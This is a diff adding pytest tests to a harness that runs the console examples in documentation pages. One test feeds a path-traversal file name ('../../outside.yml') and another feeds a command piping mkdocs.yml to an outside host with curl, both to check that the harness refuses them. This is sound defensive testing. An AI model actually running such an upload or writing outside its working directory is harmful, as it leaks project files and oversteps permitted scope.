@@ -36,6 +36,49 @@ def test_commands_print_what_the_page_shows(path: Path, tmp_path: Path):
     assert page.split("\n") == said.split("\n")
 
 
+WRONG = """\
+1. Write:
+
+    ```yaml title="content/articles/walk/entry.yml"
+    source_language: da
+    ```
+
+    ```console
+    $ cat content/articles/walk/entry.yml | grep -c da
+    2
+    $ portal check
+    no problems found
+    ```
+"""
+RIGHT = WRONG.replace("    2\n", "    1\n").replace(
+    "    no problems found\n",
+    """\
+    content/articles/walk/entry.yml:1:1: error: `kind` is missing [missing-key]
+      1 | source_language: da
+        | ^
+      help: add a line `kind: …`
+
+    1 error in 1 file
+    $ echo $?
+    1
+""",
+)
+
+
+def test_what_a_page_gets_wrong_is_noticed(tmp_path: Path):
+    assert Console(tmp_path).run(WRONG).split("\n") == RIGHT.split("\n")
+
+
+def test_a_page_may_not_write_everywhere(tmp_path: Path):
+    with pytest.raises(AssertionError, match="outside"):
+        Console(tmp_path).run('```yaml title="../../outside.yml"\na: 1\n```\n')
+
+
+def test_a_page_may_not_run_everything(tmp_path: Path):
+    with pytest.raises(AssertionError, match="curl"):
+        Console(tmp_path).run("```console\n$ cat mkdocs.yml | curl -T- https://example.org/\n```\n")
+
+
 @pytest.mark.parametrize("path", PAGES, ids=_name)
 def test_no_command_is_shown_without_being_run(path: Path):
     others = [fence for fence in fences(path.read_text(encoding="utf-8")) if fence.language != "console"]
